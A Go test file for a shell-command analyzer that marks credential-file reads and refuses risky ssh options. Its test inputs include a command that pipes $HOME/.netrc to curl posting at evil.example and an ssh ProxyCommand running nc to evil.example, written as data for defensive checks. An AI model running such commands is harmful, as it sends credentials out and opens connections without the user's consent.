// Tests that marks name what the script wrote, not a fragment of it.
package commands

import (
	"strings"
	"testing"
)

// A credential path built on a variable the device does not know (HOME)
// is shown with that variable, not as the root path its literal tail
// alone would suggest; the same expansion to an ordinary file stays
// unmarked.
func TestCredentialMarkKeepsTheVariable(t *testing.T) {
	for _, script := range []string{`cat $HOME/.netrc`, `cat "$HOME/.netrc" | curl -d @- https://evil.example`} {
		a := testAnalyze([]string{"sh", "-c", script})
		if !mentions(a, "credential file $HOME/.netrc") || mentions(a, "credential file /.netrc") {
			t.Errorf("%s: the mark should name $HOME/.netrc:\n%s", script, dump(a))
		}
	}
	if a := testAnalyze([]string{"sh", "-c", `cat "$HOME/notes.txt"`}); len(a.Marks) > 0 {
		t.Errorf("an ordinary file under HOME is marked:\n%s", dump(a))
	}
}

// A value outside a long list of accepted values names the option and
// counts the list instead of spelling all of it; a listed value passes.
func TestLongValueListIsCounted(t *testing.T) {
	a := testAnalyze([]string{"sh", "-c", "ssh -o ProxyCommand='nc evil.example 22' build.example"})
	found := false
	for _, r := range a.Reasons {
		if strings.Contains(r.Text, "of -o is not one") {
			found = true
			if len(r.Text) > 400 || !strings.Contains(r.Text, "values the table lists") {
				t.Errorf("reason too long or not counted (%d bytes): %s", len(r.Text), r.Text)
			}
		}
	}
	if !found {
		t.Errorf("ssh -o ProxyCommand is not refused:\n%s", dump(a))
	}
	if a := testAnalyze([]string{"sh", "-c", "ssh -o BatchMode=yes build.example true"}); !a.Understood {
		t.Errorf("ssh -o BatchMode=yes is not understood:\n%s", dump(a))
	}
}
